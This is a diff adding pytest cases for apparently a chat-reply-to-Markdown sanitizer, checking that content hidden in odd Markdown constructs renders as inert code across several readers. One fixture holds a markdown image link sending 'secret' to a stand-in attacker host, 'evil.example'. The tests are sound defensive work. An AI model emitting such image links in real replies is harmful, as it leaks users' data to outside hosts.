@@ -95,6 +95,52 @@ def _reply(content: str) -> str:
     return to_markdown(_conversation("hi", content))
 
 
+# -- code left as typed must be code to every reader -------------------------------------
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        # An indented line after an empty list item in a quote: CommonMark's top-level
+        # code block, nbconvert's list item (raw HTML).
+        f"Steps:\n\n> -\n    {LIVE}\n\nDone.",
+        f"> 1.\n    {LIVE}",
+        f">1.\n    {LIVE}",
+        f">2) >\n    {LIVE}",
+        f">> -\n    {LIVE}",
+        f"> -\n\t{LIVE}",
+        "> -\n    ![chart](http://evil.example/?q=secret)",
+        f"> -\n    [click]({SCRIPT})",
+    ],
+)
+def test_an_indented_block_after_a_container_is_code_to_every_reader(content: str) -> None:
+    markdown = _reply(content)
+    pages = _assert_nothing_live(markdown)
+    assert "\n```\n" in markdown  # written as a fence, which every reader agrees on
+    for page in pages.values():
+        assert "<code>" in page  # the text is still there, as code
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        # nbconvert puts a mermaid block's text in the page as HTML.
+        f"```mermaid\n{LIVE}\n```",
+        f"~~~ mermaid\n{LIVE}\n~~~",
+        # A definition list runs on over the fence (no blank line) and its blank line.
+        f"Term\n: a definition\n```\ncode\n\nmore {LIVE}\n```",
+        # Odd fences: a tilde fence whose info has a backtick, one indented, one left open.
+        f"~~~ a`b\n{LIVE}\n~~~",
+        f"   ````\n{LIVE}\n   ````",
+        f"```py\n{LIVE}",
+    ],
+)
+def test_a_code_block_is_code_to_every_reader(content: str) -> None:
+    markdown = _reply(content)
+    _assert_nothing_live(markdown)
+    assert LIVE in markdown  # as typed, in a fence
+
+
 # -- reference definitions and links, however they are written ---------------------------
 
 
@@ -144,3 +190,50 @@ def test_links_and_definitions_to_web_pages_stay_links() -> None:
     for page in pages.values():
         assert 'href="https://example.org/docs"' in page
         assert 'href="https://example.org"' in page
+
+
+# -- ordinary Markdown stays as it was written -------------------------------------------
+
+ORDINARY = """\
+Here is the plan:
+
+1. Install it:
+
+   ```sh
+   pip install thing && thing --check
+   ```
+
+2. Use `vector<int>` as the type.
+
+> Note: **bold** and *italic*.
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+The energy is
+
+$$
+E = mc^2
+$$
+
+```python
+if a < b and c > d:
+    print("ok")
+```
+
+See [the docs](https://example.org/docs) and $x$ inline."""
+
+
+def test_ordinary_markdown_keeps_its_form() -> None:
+    markdown = _reply(ORDINARY)
+    assert "1. Install it:\n\n   ```sh\n   pip install thing && thing --check\n   ```" in markdown
+    assert "2. Use `vector<int>` as the type." in markdown
+    assert "| a | b |\n|---|---|\n| 1 | 2 |" in markdown
+    assert "The energy is\n\n$$\nE = mc^2\n$$" in markdown
+    assert '```python\nif a < b and c > d:\n    print("ok")\n```' in markdown
+    assert "See [the docs](https://example.org/docs) and $x$ inline." in markdown
+    pages = _assert_nothing_live(markdown)
+    for page in pages.values():
+        assert 'href="https://example.org/docs"' in page
+        assert "vector&lt;int&gt;" in page
